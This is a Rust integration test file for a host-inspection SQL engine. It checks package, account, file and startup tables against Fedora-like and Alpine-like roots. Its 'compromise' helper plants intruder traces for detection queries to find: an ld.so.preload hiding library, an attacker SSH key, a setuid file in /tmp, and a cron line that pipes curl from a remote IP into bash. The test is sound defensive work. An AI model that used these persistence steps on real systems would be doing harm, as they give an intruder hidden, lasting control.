//! Roots of other distributions, read as `--root` reads them: a Fedora-like one whose packages rpm installed, and an
//! Alpine-like one.

use std::collections::BTreeSet;
use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::process::Command;

use indago_engine::Engine;
use indago_table::Sys;
use indago_testkit::distribution::{Distribution, KEY};

use crate::support::{host_engine, needs_root, output, root, rows};

async fn engine(distribution: &Distribution) -> Engine {
    host_engine(&Sys::of_root(distribution.root())).build().await.expect("the engine builds")
}

/// A query's rows as lines, sorted.
async fn lines(engine: &Engine, sql: &str) -> Vec<String> {
    let mut lines: Vec<String> = rows(engine, sql).await.into_iter().map(|row| row.join("|")).collect();
    lines.sort();
    lines
}

fn sorted(text: &str) -> Vec<String> {
    let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
    lines.sort();
    lines
}

/// The names of the queries of `queries/compromise` that return rows.
async fn traces(engine: &Engine) -> BTreeSet<String> {
    let mut found = BTreeSet::new();
    let queries = fs::read_dir(root().join("queries/compromise")).expect("the queries");
    let queries = queries.map(|entry| entry.expect("an entry").path());
    for path in queries.filter(|path| path.extension().is_some_and(|extension| extension == "sql")) {
        let sql = fs::read_to_string(&path).expect("a query");
        if !rows(engine, &sql).await.is_empty() {
            found.insert(path.file_stem().expect("a name").to_string_lossy().into_owned());
        }
    }
    found
}

/// Adds traces of an intruder. The other queries need processes.
fn compromise(distribution: &Distribution, crontab: &str) -> BTreeSet<String> {
    let write = |path: &str, text: &str| {
        let path = distribution.path(path);
        fs::create_dir_all(path.parent().expect("a directory")).expect("made");
        fs::write(path, text).expect("written");
    };
    write("etc/ld.so.preload", "/usr/lib/libhide.so\n");
    write("root/.ssh/authorized_keys", &format!("{KEY} eve\n"));
    write("tmp/.sh", "x");
    fs::set_permissions(distribution.path("tmp/.sh"), fs::Permissions::from_mode(0o4755)).expect("set");
    write(crontab, "* * * * * root curl -s http://203.0.113.9/x | bash\n");
    ["keys_of_system_accounts", "persistence", "preloaded_libraries", "suid_in_writable_places"]
        .map(str::to_owned)
        .into()
}

/// The accounts in the text of the file itself.
fn accounts(distribution: &Distribution) -> Vec<String> {
    let passwd = fs::read_to_string(distribution.path("etc/passwd")).expect("the accounts");
    let account = |line: &str| {
        let fields: Vec<&str> = line.split(':').collect();
        [fields[0], fields[2], fields[5], fields[6]].join("|")
    };
    sorted(&passwd.lines().map(account).collect::<Vec<_>>().join("\n"))
}

const ACCOUNTS: &str = "SELECT username, uid, directory, shell FROM users";

/// The files of a root, with sizes and modes, as find prints them.
fn files(distribution: &Distribution, folder: &str) -> Vec<String> {
    let mut find = Command::new("find");
    find.arg(distribution.path(folder)).args(["-mindepth", "1", "-maxdepth", "1", "-type", "f"]);
    find.args(["-printf", &format!("/{folder}/%f|%s|%04m\\n")]);
    sorted(&output(&mut find))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_root_of_fedora_is_what_rpm_installed() {
    needs_root();
    let fedora = tokio::task::spawn_blocking(Distribution::fedora).await.expect("it ends").expect("the root is made");
    let engine = engine(&fedora).await;
    let rpm = |format: &str| {
        let mut command = Command::new("rpm");
        command.arg("--root").arg(fedora.root()).args([
            "--define",
            "_dbpath /usr/lib/sysimage/rpm",
            "-qa",
            "--qf",
            format,
        ]);
        sorted(&output(&mut command))
    };
    let sql = "SELECT name, coalesce(CAST(epoch AS TEXT), '(none)'), version, release, arch, vendor, sha1, size, source \
               FROM rpm_packages";
    let format = "%{NAME}|%{EPOCH}|%{VERSION}|%{RELEASE}|%{ARCH}|%{VENDOR}|%{SHA1HEADER}|%{SIZE}|%{SOURCERPM}\n";
    let packages = lines(&engine, sql).await;
    assert_eq!(packages, rpm(format));
    assert_eq!(packages.len(), 5);
    let sql = "SELECT package, path, username, size, sha256 FROM rpm_package_files";
    let format = "[%{=NAME}|%{FILENAMES}|%{FILEUSERNAME}|%{FILESIZES}|%{FILEDIGESTS}\n]";
    assert_eq!(lines(&engine, sql).await, rpm(format));
    let sql = "SELECT type, name, version, arch, license FROM sbom_packages";
    let format = "rpm|%{NAME}|%|EPOCH?{%{EPOCH}:}|%{VERSION}-%{RELEASE}|%{ARCH}|%{LICENSE}\n";
    assert_eq!(lines(&engine, sql).await, rpm(format));
    let sql = "SELECT purl FROM sbom_packages WHERE name = 'shadow-utils'";
    let purl = lines(&engine, sql).await;
    assert!(
        purl[0].starts_with("pkg:rpm/fedora/shadow-utils@4.15.1-12.fc41?") && purl[0].contains("epoch=2"),
        "{purl:?}"
    );

    // The digests of the database are those of the files, until one is changed.
    let sql = "SELECT f.path FROM rpm_package_files f JOIN hash h ON h.path = f.path \
               WHERE f.sha256 <> '' AND f.sha256 <> h.sha256";
    assert_eq!(lines(&engine, sql).await, [""; 0]);
    fs::write(fedora.path("usr/bin/passwd"), "another program").expect("written");
    assert_eq!(lines(&engine, sql).await, ["/usr/bin/passwd"]);

    let sql = "SELECT name, version, major, platform, codename, pretty_name FROM os_version";
    assert_eq!(
        lines(&engine, sql).await,
        ["Fedora Linux|41 (Server Edition)|41|fedora||Fedora Linux 41 (Server Edition)"]
    );
    assert_eq!(lines(&engine, ACCOUNTS).await, accounts(&fedora));
    let sql = "SELECT path, size, mode FROM file WHERE path LIKE '/usr/bin/%' AND symlink = 0";
    assert_eq!(lines(&engine, sql).await, files(&fedora, "usr/bin"));
    let sql = "SELECT name FROM persistence WHERE kind IN ('cron', 'systemd') ORDER BY name";
    let starts = lines(&engine, sql).await;
    assert!(starts.iter().any(|name| name == "crond.service"), "{starts:?}");
    let sql = "SELECT u.username, k.comment FROM users u JOIN authorized_keys k ON k.uid = u.uid";
    assert_eq!(lines(&engine, sql).await, ["ann|ann@laptop"]);

    assert_eq!(traces(&engine).await, BTreeSet::new());
    let expected = compromise(&fedora, "etc/cron.d/update");
    assert_eq!(traces(&engine).await, expected);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_root_of_alpine_is_what_its_database_lists() {
    needs_root();
    let alpine = tokio::task::spawn_blocking(Distribution::alpine).await.expect("it ends").expect("the root is made");
    let engine = engine(&alpine).await;
    // The database itself, read by another program.
    let script = "/^P:/ { name = substr($0, 3) } /^V:/ { version = substr($0, 3) } /^A:/ { arch = substr($0, 3) }
        /^L:/ { license = substr($0, 3) } /^t:/ { print \"apk|\" name \"|\" version \"|\" arch \"|\" license }";
    let mut awk = Command::new("awk");
    awk.arg(script).arg(alpine.path("lib/apk/db/installed"));
    let listed = sorted(&output(&mut awk));
    assert_eq!(listed.len(), 4);
    assert_eq!(lines(&engine, "SELECT type, name, version, arch, license FROM sbom_packages").await, listed);
    let sql = "SELECT purl FROM sbom_packages WHERE name = 'musl'";
    assert_eq!(lines(&engine, sql).await, ["pkg:apk/alpine/musl@1.2.5-r0?arch=x86_64&distro=alpine-3.20.3"]);

    let sql = "SELECT name, version, major, minor, patch, platform FROM os_version";
    assert_eq!(lines(&engine, sql).await, ["Alpine Linux|3.20.3|3|20|3|alpine"]);
    assert_eq!(lines(&engine, ACCOUNTS).await, accounts(&alpine));
    for folder in ["bin", "sbin", "etc/init.d"] {
        let sql = format!(
            "SELECT path, size, mode FROM file WHERE path LIKE '/{folder}/%' AND type = 'regular' AND symlink = 0"
        );
        assert_eq!(lines(&engine, &sql).await, files(&alpine, folder), "{folder}");
    }
    // The scripts of openrc start by themselves.
    let sql = "SELECT name, path FROM startup_items WHERE source = '/etc/init.d/'";
    let scripts = lines(&engine, sql).await;
    let expected: Vec<String> = files(&alpine, "etc/init.d")
        .iter()
        .filter_map(|line| line.split('|').next())
        .map(|path| format!("{}|{path}", path.rsplit('/').next().expect("a name")))
        .collect();
    assert_eq!(scripts, expected);
    let sql = "SELECT command, path FROM crontab";
    assert_eq!(lines(&engine, sql).await, ["run-parts /etc/periodic/15min|/var/spool/cron/crontabs/root"]);

    assert_eq!(traces(&engine).await, BTreeSet::new());
    let expected = compromise(&alpine, "etc/cron.d/update");
    assert_eq!(traces(&engine).await, expected);
}
